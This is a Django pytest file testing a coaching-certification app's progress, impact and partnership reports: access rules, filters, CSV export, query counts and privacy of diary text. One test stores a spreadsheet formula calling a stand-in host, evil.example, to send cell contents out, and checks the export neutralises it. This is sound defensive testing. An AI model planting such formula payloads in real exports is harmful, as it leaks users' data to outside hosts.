"""Reports: cohort progress for the office and assessors (filters, a spreadsheet
export, a fixed number of queries), and a school's impact report for its coaching leads
and the office, which counts and quotes the impact lead but never what anyone wrote in a
diary, log or task."""

import csv
import datetime
import io
import subprocess

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from certification.models import CoachingSession, Enrolment
from certification.services.portfolio import write_impact_statement

from .portfolio_world import build_world, person

pytestmark = pytest.mark.django_db


@pytest.fixture
def world():
    return build_world()


def test_the_office_sees_everyone_and_an_assessor_only_their_own(client, world):
    url = reverse("reports:progress")
    client.force_login(world.people["admin"])
    page = client.get(url).content.decode()
    assert "Pat Lee" in page and "Olly Ray" in page
    client.force_login(world.people["assessor"])
    page = client.get(url).content.decode()
    assert "Pat Lee" in page and "Olly Ray" not in page
    for who in ("participant", "coaching lead", "impact lead", "booker", "editor"):
        client.force_login(world.people[who])
        assert client.get(url).status_code == 404, who
    client.logout()
    assert client.get(url).status_code == 302


def test_filters_and_the_spreadsheet(client, world):
    client.force_login(world.people["admin"])
    url = reverse("reports:progress")
    school = world.enrolment.organisation
    page = client.get(url, {"school": school.pk}).content.decode()
    assert "Pat Lee" in page and "Olly Ray" not in page
    page = client.get(url, {"status": "recommended"}).content.decode()
    assert page.count("Pat Lee") == 1  # last year's, recommended; not this year's
    response = client.get(url, {"school": school.pk, "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:7] == [
        "Participant",
        "Email",
        "School",
        "Award",
        "Date",
        "Status",
        "Requirements met",
    ]
    assert "Coaching sessions logged" in rows[0]
    assert {row[0] for row in rows[1:]} == {"Pat Lee"} and len(rows) == 3


def test_the_progress_report_costs_the_same_queries_for_more_participants(client, world):
    client.force_login(world.people["admin"])
    url = reverse("reports:progress")
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for n in range(10):
        enrolment = Enrolment.objects.create(
            participant=person(f"more{n}@school.example", first_name="More", last_name=str(n)),
            requirement_set=world.enrolment.requirement_set,
            organisation=world.enrolment.organisation,
            assessor=world.people["assessor"],
            academic_year=2026,
        )
        CoachingSession.objects.create(
            enrolment=enrolment, held_on=datetime.date(2026, 10, 1), minutes=30, coachee="X"
        )
    with CaptureQueriesContext(connection) as many:
        page = client.get(url).content.decode()
    assert page.count("More ") >= 10
    assert len(many) == len(few)


def test_the_impact_report_counts_and_quotes_the_impact_lead_only(client, world, tmp_path):
    e, o = world.enrolment, world.objects
    s = o["session"]
    s.style, s.model_and_tools = "facilitative", "GROW, scaling"
    s.save()
    CoachingSession.objects.create(
        enrolment=e,
        held_on=datetime.date(2027, 2, 3),
        minutes=30,
        coachee="NQT, year 2",
        style="dialogical",
        model_and_tools="GROW",
        reflection="Secret spring reflection",
    )
    write_impact_statement(o["cycle"], world.people["impact lead"], "Door routines now shared.")
    url = reverse("reports:impact", args=[e.organisation.pk]) + "?year=2026"
    client.force_login(world.people["coaching lead"])
    page = client.get(url).content.decode()
    assert "2</strong> coaching sessions logged" in page
    assert "1.2</strong> hours" in page  # 45 + 30 minutes
    assert "2</strong> colleagues coached" in page
    assert "Door routines now shared." in page
    assert "GROW (2)" in page and "Facilitative" in page
    assert 'aria-label="Sessions per term: Autumn 2026 1, Spring 2027 1, Summer 2027 0"' in page
    for secret in (
        "Secret spring reflection",
        "Mine reflection",
        "Mine log body",
        "Mine answer",
        "Mine focus",
        "Pat Lee",
        "ECT, year 4",
    ):
        assert secret not in page, secret
    pdf = client.get(reverse("reports:impact-pdf", args=[e.organisation.pk]) + "?year=2026")
    assert pdf["Content-Type"] == "application/pdf"
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=pdf.content, capture_output=True, check=True
    ).stdout.decode()
    assert "Door routines now shared." in text and "Sessions per term" in text
    assert "Secret spring reflection" not in text


def test_the_impact_report_names_only_the_programmes_models_never_what_was_typed(client, world):
    e = world.enrolment
    CoachingSession.objects.create(
        enrolment=e,
        held_on=datetime.date(2026, 10, 3),
        minutes=30,
        coachee="NQT",
        model_and_tools="GROW; talked about her divorce and panic attacks",
    )
    CoachingSession.objects.create(
        enrolment=e,
        held_on=datetime.date(2026, 10, 10),
        minutes=30,
        coachee="NQT",
        model_and_tools="Wants to grow; a clear plan; scaling 1 to 10",
    )
    client.force_login(world.people["coaching lead"])
    url = reverse("reports:impact", args=[e.organisation.pk]) + "?year=2026"
    page = client.get(url).content.decode()
    assert "GROW (1)" in page and "Scaling (1)" in page
    for typed in ("divorce", "panic", "Talked about", "Wants to grow", "A clear plan", "CLEAR"):
        assert typed not in page, typed
    pdf = client.get(reverse("reports:impact-pdf", args=[e.organisation.pk]) + "?year=2026")
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=pdf.content, capture_output=True, check=True
    ).stdout.decode()
    assert "GROW (1)" in text and "divorce" not in text


def test_the_progress_spreadsheet_does_not_run_what_people_typed(client, world):
    participant = world.enrolment.participant
    participant.first_name = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    participant.save()
    client.force_login(world.people["admin"])
    body = client.get(reverse("reports:progress"), {"format": "csv"}).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&B2,"x") ' + participant.last_name in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)


def test_a_date_whose_sessions_are_not_set_yet_still_reports(client, world):
    from tests.bookings import factories

    undated = factories.cohort(sessions=0)
    assert undated.starts_at is None
    world.enrolment.cohort = undated
    world.enrolment.save()
    client.force_login(world.people["admin"])
    page = client.get(reverse("reports:progress"))
    assert page.status_code == 200
    assert f"{undated.course.title}, dates to be set" in page.content.decode()
    body = client.get(reverse("reports:progress"), {"format": "csv"}).content.decode("utf-8-sig")
    assert f"{undated.course.title}, dates to be set" in body


@pytest.mark.parametrize(
    ("who", "answer"),
    [
        ("coaching lead", 200),
        ("impact lead", 200),
        ("admin", 200),
        ("participant", 404),
        ("assessor", 404),
        ("other school's impact lead", 404),
        ("booker", 404),
        ("editor", 404),
        ("senior assessor", 404),
    ],
)
def test_the_impact_report_is_for_the_schools_leads_and_the_office(client, world, who, answer):
    client.force_login(world.people[who])
    school = world.enrolment.organisation
    for name in ("reports:impact", "reports:impact-pdf"):
        assert client.get(reverse(name, args=[school.pk])).status_code == answer, name
    # Another school's report, by changing the id: 404 for this school's leads.
    if who in ("coaching lead", "impact lead"):
        other = world.other.organisation
        assert client.get(reverse("reports:impact", args=[other.pk])).status_code == 404


def test_the_portfolios_page_leads_to_the_reports(client, world):
    client.force_login(world.people["assessor"])
    assert (
        reverse("reports:progress")
        in client.get(reverse("certification:portfolios")).content.decode()
    )
    client.force_login(world.people["coaching lead"])
    page = client.get(reverse("certification:portfolios")).content.decode()
    assert reverse("reports:impact", args=[world.enrolment.organisation.pk]) in page
    assert reverse("reports:progress") not in page


def test_the_partnership_figure_counts_cross_school_trios_and_their_meetings(client, world):
    from certification.models import CoachingTrio

    e, other = world.enrolment, world.other
    cross = CoachingTrio.objects.create(name="Trio A", academic_year=2026)
    cross.members.add(e, other)
    same = CoachingTrio.objects.create(name="Trio B", academic_year=2026)
    same.members.add(e)
    quiet = CoachingTrio.objects.create(name="Trio C", academic_year=2026)
    quiet.members.add(e, other)
    CoachingTrio.objects.create(name="Last year", academic_year=2025).members.add(e, other)
    # A member marks a session as a trio meeting from the diary's full form.
    client.force_login(world.people["participant"])
    form = client.get(reverse("certification:session-add", args=[e.pk]) + "?full=1")
    assert set(form.context["form"].fields["trio"].queryset) == {cross, same, quiet}
    client.post(
        reverse("certification:session-add", args=[e.pk]) + "?full=1",
        {
            "full": "1",
            "held_on": "2026-11-02",
            "minutes": "40",
            "coachee": "Trio",
            "trio": cross.pk,
        },
    )
    assert CoachingSession.objects.get(enrolment=e, held_on="2026-11-02").trio == cross
    for day, enrolment in (("2026-11-02", other), ("2027-01-12", other)):  # same day counts once
        CoachingSession.objects.create(
            enrolment=enrolment, held_on=day, minutes=40, coachee="Trio", trio=cross
        )
    CoachingSession.objects.create(
        enrolment=e, held_on="2026-12-01", minutes=40, coachee="Trio", trio=same
    )
    # Nobody else's trio can be chosen.
    client.force_login(world.people["other participant"])
    form = client.get(reverse("certification:session-add", args=[other.pk]) + "?full=1")
    assert same not in form.context["form"].fields["trio"].queryset
    client.force_login(world.people["admin"])
    page = client.get(reverse("reports:partnerships"), {"year": 2026}).content.decode()
    assert "<strong>2</strong> cross-school trios, <strong>1</strong> of them meeting" in page
    assert "<strong>2</strong> meetings in all" in page
    for who in ("assessor", "coaching lead", "participant"):
        client.force_login(world.people[who])
        assert client.get(reverse("reports:partnerships")).status_code == 404


def test_the_admin_menu_leads_the_office_to_the_reports(client, world):
    client.force_login(world.people["admin"])
    assert reverse("reports:progress") in client.get("/admin/").content.decode()
    client.force_login(world.people["editor"])
    assert reverse("reports:progress") not in client.get("/admin/").content.decode()


def test_the_office_finds_every_report_from_the_progress_page(client, world):
    client.force_login(world.people["admin"])
    page = client.get(reverse("reports:progress")).content.decode()
    assert reverse("reports:partnerships") in page
    assert reverse("reports:impact", args=[world.enrolment.organisation.pk]) in page
    client.force_login(world.people["assessor"])
    assert (
        reverse("reports:partnerships")
        not in client.get(reverse("reports:progress")).content.decode()
    )
